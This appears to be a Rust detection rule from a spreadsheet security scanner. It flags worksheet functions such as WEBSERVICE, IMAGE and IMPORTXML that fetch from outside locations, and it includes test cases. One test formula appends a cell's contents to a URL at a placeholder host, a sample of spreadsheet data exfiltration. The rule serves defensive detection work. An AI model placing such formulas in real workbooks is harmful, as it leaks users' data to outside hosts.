//! A function of a cell fetches from, or tells, another place.

use super::lexicon::FETCHING_FUNCTIONS;
use super::{Case, Part, Rule, Subject};
use crate::link::Carrier;

pub(super) const RULE: Rule = Rule {
    id: "fetching-function",
    weight: 40,
    part: Part::Base,
    since: "0.1.0",
    doc: "A worksheet function fetches what its argument names, and may carry the contents of \
          cells there (`WEBSERVICE`, `IMAGE`, `IMPORTXML` …).",
    hits: &[
        Case::external(Carrier::Function, "WEBSERVICE(\"http://x/\"&A1)"),
        Case::external(Carrier::Formula, "_xlfn.IMAGE(\"https://x/a.png\")"),
    ],
    misses: &[
        Case::external(Carrier::Function, "RTD(\"prog.id\",\"\",\"x\")"),
        Case::external(Carrier::Function, "HYPERLINK(\"http://x/\",\"x\")"),
        Case::external(Carrier::Hyperlink, "http://x/webservice(1)"),
    ],
    look,
};

fn look(subject: &Subject<'_>) -> Option<String> {
    let carriers = [Carrier::Function, Carrier::Formula, Carrier::Name];
    let lower = subject.query().to_ascii_lowercase();
    let name = FETCHING_FUNCTIONS
        .iter()
        .find(|name| lower.contains(**name))?;
    subject
        .is_external_in(&carriers)
        .then(|| name.trim_end_matches('(').to_uppercase())
}
